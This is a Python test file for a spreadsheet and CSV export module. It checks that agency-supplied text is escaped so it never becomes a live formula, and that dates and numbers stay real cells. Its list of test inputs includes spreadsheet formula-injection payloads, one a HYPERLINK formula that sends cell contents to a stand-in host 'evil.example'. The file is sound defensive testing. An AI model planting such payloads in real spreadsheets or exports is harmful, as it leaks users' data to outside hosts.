"""The one spreadsheet writer: agencies' text never becomes a live formula, and dates and
numbers stay real cells."""

import csv
import io
from datetime import date, datetime, time

import openpyxl
import pytest

from dhr.files import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_is_written_as_text(text):
    workbook = openpyxl.load_workbook(
        io.BytesIO(
            spreadsheets.xlsx_bytes(
                [spreadsheets.Sheet(title="Entries", headings=["Text"], rows=[[text]])]
            )
        )
    )
    cell = workbook["Entries"]["A2"]

    assert cell.data_type == "s"
    # Depending on the XML parser a bare carriage return may come back as a line feed, or as
    # the standard's escape "_x000D_" (XlsxWriter writes it so; Excel reads it back as a
    # carriage return, openpyxl leaves it as it is): either way it is still after the quote.
    value = cell.value.replace("_x000D_", "\r").replace("\r", "\n")
    assert value == "'" + text.replace("\r", "\n")


def test_dates_times_and_numbers_stay_real_cells_and_ordinary_text_is_unchanged():
    row = [date(2026, 3, 1), time(9, 30), 42, -3.5, "Visited the address", None]
    content = spreadsheets.xlsx_bytes(
        [
            spreadsheets.Sheet(
                title="Entries",
                preamble=["Title line", "=not a formula either"],
                headings=["Date", "Time", "Count", "Change", "Text", "Empty"],
                rows=[row],
            )
        ]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Entries"]

    assert sheet["A1"].value == "Title line"
    assert sheet["A2"].value == "'=not a formula either"
    assert [cell.value for cell in sheet[4]] == ["Date", "Time", "Count", "Change", "Text", "Empty"]
    values = [cell.value for cell in sheet[5]]
    assert values[0] == datetime(2026, 3, 1)
    assert sheet["A5"].number_format == "DD/MM/YYYY"
    assert values[1] == time(9, 30)
    assert values[2:5] == [42, -3.5, "Visited the address"]
    assert values[5] is None


def test_csv_neutralises_the_same_text_and_writes_uk_dates_with_a_byte_order_mark():
    content = spreadsheets.csv_bytes(
        ["Date", "Text", "Number"], [[date(2026, 3, 1), text, -4] for text in HOSTILE]
    )

    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Date", "Text", "Number"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[0] for row in rows[1:]} == {"01/03/2026"}
    assert {row[2] for row in rows[1:]} == {"-4"}
